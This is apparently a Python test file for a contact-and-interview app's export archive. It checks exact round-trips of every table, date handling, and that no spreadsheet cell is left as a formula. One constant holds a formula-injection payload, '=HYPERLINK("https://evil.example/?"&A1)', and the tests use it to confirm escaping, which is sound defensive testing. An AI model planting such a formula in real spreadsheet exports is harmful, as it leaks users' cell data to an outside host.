"""The archive of all that somebody wrote: complete, exact, readable, and harmless in a spreadsheet."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, time
from typing import Any

import pandas as pd
import pytest

from lib.domain import commands
from lib.domain.snapshot import CLOCK, COLUMNS, DAY, LIST, MOMENT, Snapshot, typed_frame
from lib.domain.vocabulary import GoalKind, RatedWhen, Rating
from lib.exchange.everything import READ_ME, everything_zip, tables_of
from lib.exchange.interview_log import interview_log_csv
from lib.exchange.people import ReadPeople
from lib.exchange.recognise import read_people
from lib.method.sample import sample_commands
from lib.store.store import Store
from lib.store.workspace import Workspace
from lib.views.interviews import interviews
from tests.cast import ADA, BERLIN, NOW, Clock, a_contact, a_draft, a_goal, an_interview, only, scheduled
from tests.lib.store.every_command import a_wording

EXACT = NOW.replace(microsecond=123_456)
FILES = ("everything.json", "interviews.csv", "contacts.csv", "contacts.vcf")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def workspace(sqlite_url: str) -> Iterator[Workspace]:
    store = Store(sqlite_url, Clock(EXACT))
    yield store.workspace(ADA)
    store.close()


@pytest.fixture
def sample(workspace: Workspace) -> Snapshot:
    workspace.do_each(sample_commands(NOW, BERLIN, interviews=60))
    return workspace.snapshot()


def opened(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def read_back(table: str, rows: list[dict[str, Any]]) -> pd.DataFrame:
    """Return the frame that a program makes of the archive's rows, by what COLUMNS says of them."""
    return typed_frame(table, [{name: _read(table, name, cell) for name, cell in row.items()} for row in rows])


def _read(table: str, column: str, cell: Any) -> Any:
    dtype = COLUMNS[table].get(column)
    if dtype == DAY:
        return pd.NaT if cell is None else pd.Timestamp(date.fromisoformat(cell))
    if dtype == MOMENT:
        return pd.NaT if cell is None else datetime.fromisoformat(cell)
    if column == "starts_time":
        return None if cell is None else time.fromisoformat(cell)
    return tuple(cell) if (table, column) == ("contacts", "tags") else cell


def test_every_table_with_every_column_comes_back_as_it_was(workspace: Workspace, sample: Snapshot) -> None:
    one, other = sample.contacts["id"][:2]
    workspace.do(commands.KeepApart(contact_id=one, other_id=other))
    weights = {"relevance": 3, "connects": 0, "willing": 1, "fresh": 0, "welcome": 0, "viewpoint": 1}
    workspace.do(commands.ChooseWeights(goal_id=sample.goals["id"][0], weights=weights))
    person = commands.ImportedContact(name="Null", also={"email": ("two@example.org",), "name": ("NA",)})
    columns = commands.ColumnChoice(signature="Who", columns={"Who": "name"})
    workspace.do(commands.ImportContacts(source="a table", contacts=(person,), columns=columns))
    interview_id = sample.interviews["id"][0]
    workspace.do(commands.FillField(interview_id=interview_id, field="why_them", text="null"))
    workspace.do(commands.AddResource(interview_id=interview_id, text="NULL"))
    rating = {"rating": Rating.FIT, "rated_when": RatedWhen.AFTER, "value": 0}
    workspace.do(commands.Rate(goal_id=sample.goals["id"][0], **rating))
    workspace.do(commands.PlanQuestions(interview_id=interview_id, question_ids=tuple(sample.questions["id"][:2])))
    workspace.do(commands.SortTakeaway(takeaway_id=sample.takeaways["id"][0], theme="null", tags=("NA",)))
    workspace.do(commands.ProposeTimes(interview_id=interview_id, slots=(EXACT,)))
    workspace.do(commands.Skip(rule="thanked", contact_id=one, reason="NaN"))
    workspace.do(commands.ChooseWorkdays(country="DE", days_off=(NOW.date(),)))
    workspace.do(a_wording())
    workspace.do(commands.KeepDraftVersion(message_id=a_draft(workspace, an_interview(workspace))))
    sample = workspace.snapshot()
    tables = tables_of(sample)
    assert set(tables) == set(COLUMNS)
    for name, rows in tables.items():
        frame: pd.DataFrame = getattr(sample, name)
        assert len(rows) == len(frame)
        for row in rows:
            assert list(row) == list(frame.columns)
        pd.testing.assert_frame_equal(read_back(name, rows), frame, obj=name)
    assert {name for name, rows in tables.items() if rows} == set(COLUMNS)  # none was compared empty


def test_days_are_days_and_moments_keep_their_microseconds_in_utc(workspace: Workspace) -> None:
    scheduled(workspace, on=date(2026, 10, 8), at=time(14, 30))
    tables = tables_of(workspace.snapshot())
    [interview], [goal] = tables["interviews"], tables["goals"]
    assert (interview["starts_on"], interview["starts_time"]) == ("2026-10-08", "14:30:00")
    assert interview["starts_at"] == "2026-10-08T12:30:00.000000Z"
    assert re.fullmatch(r"2026-10-05T09:00:\d\d\.123456Z", goal["created_at"])
    assert datetime.fromisoformat(goal["created_at"]) == only(workspace.snapshot().goals).created_at


def test_what_is_missing_is_null_and_what_is_empty_is_empty(workspace: Workspace) -> None:
    a_goal(workspace)
    a_contact(workspace)
    [goal], [contact] = (tables_of(workspace.snapshot())[name] for name in ("goals", "contacts"))
    assert (goal["by_on"], goal["confidence"], goal["closed_at"], goal["wanted"]) == (None, None, None, "")
    assert (contact["last_spoke_on"], contact["tags"], contact["may_use_name"]) == (None, [], False)


def test_texts_come_letter_by_letter(workspace: Workspace) -> None:
    topic = 'Ärzte "und" \N{GRINNING FACE} \\ / </script> ' + FORMULA
    workspace.do(commands.AddGoal(kind=GoalKind.ROLE, topic=topic))
    content = everything_zip({"own": workspace.snapshot()}, BERLIN, EXACT)
    raw = opened(content)["own/everything.json"].decode()
    assert json.loads(raw)["tables"]["goals"][0]["topic"] == topic
    assert "Ärzte" in raw  # and not as \u00c4: people read it, too


def test_the_archive_has_a_folder_for_each_workspace_and_says_what_is_in_it(workspace: Workspace) -> None:
    an_interview(workspace)
    snapshot = workspace.snapshot()
    files = opened(everything_zip({"own": snapshot, "sample": snapshot}, BERLIN, EXACT))
    assert list(files) == [
        "README.txt",
        *(f"{kind}/{file}" for kind in ("own", "sample") for file in FILES),
    ]
    assert files["README.txt"].decode() == READ_ME
    for file in (*FILES, "own", "sample", "ISO 8601"):
        assert file in READ_ME


def test_each_file_tells_its_format_its_workspace_and_when_it_was_made(workspace: Workspace) -> None:
    files = opened(everything_zip({"sample": workspace.snapshot()}, BERLIN, datetime(2026, 10, 5, 9, tzinfo=UTC)))
    whole = json.loads(files["sample/everything.json"])
    tables = whole.pop("tables")
    assert whole == {"format": 1, "made_at": "2026-10-05T09:00:00+00:00", "workspace": "sample"}
    assert set(tables) == set(COLUMNS)


def test_of_no_workspace_there_is_an_archive_too() -> None:
    assert list(opened(everything_zip({}, BERLIN, EXACT))) == ["README.txt"]


def test_the_spreadsheet_is_the_interview_log(sample: Snapshot) -> None:
    files = opened(everything_zip({"own": sample}, BERLIN, EXACT))
    assert files["own/interviews.csv"] == interview_log_csv(sample, interviews(sample, BERLIN), BERLIN)


def test_the_files_of_contacts_have_archived_people_too(workspace: Workspace) -> None:
    a_contact(workspace, "Amara Obi")
    workspace.do(commands.ArchiveContact(contact_id=a_contact(workspace, "Bo Lind")))
    files = opened(everything_zip({"own": workspace.snapshot()}, BERLIN, EXACT))
    for content in (files["own/contacts.csv"], files["own/contacts.vcf"]):
        people = read_people(content)
        assert isinstance(people, ReadPeople)
        assert {person.name: person.archived for person in people.people} == {"Amara Obi": False, "Bo Lind": True}


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\N{FULLWIDTH EQUALS SIGN}", "  ="])
def test_no_cell_of_the_spreadsheet_is_a_formula(workspace: Workspace, sign: str) -> None:
    formula = f"{sign}HYPERLINK(1)"
    goal_id = done_goal(workspace, formula)
    contact_id = a_contact(workspace, formula, organisation=formula, position=formula)
    an_interview(workspace, goal_id=goal_id, contact_id=contact_id)
    files = opened(everything_zip({"own": workspace.snapshot()}, BERLIN, EXACT))
    rows = list(csv.reader(io.StringIO(files["own/interviews.csv"].decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert sum(f"'{formula.strip()}" in cell for cell in cells) >= 4
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@\uff1d]", cell)]


def done_goal(workspace: Workspace, topic: str) -> str:
    return workspace.do(commands.AddGoal(kind=GoalKind.ROLE, topic=topic)).subject_id


def test_the_kinds_of_columns_that_json_does_not_have_are_those_that_were_tried() -> None:
    odd = {
        (table, name) for table, columns in COLUMNS.items() for name, dtype in columns.items() if dtype in {LIST, CLOCK}
    }
    assert odd == {
        *(("contacts", "tags"), ("contacts", "also"), ("goals", "weights"), ("column_choices", "columns")),
        *(("interviews", "starts_time"), ("interviews", "merge_fields"), ("interviews", "slots")),
        *(("interviews", "plan"), ("takeaways", "tags")),
        *(("profiles", "cadence"), ("profiles", "days_off")),
    }
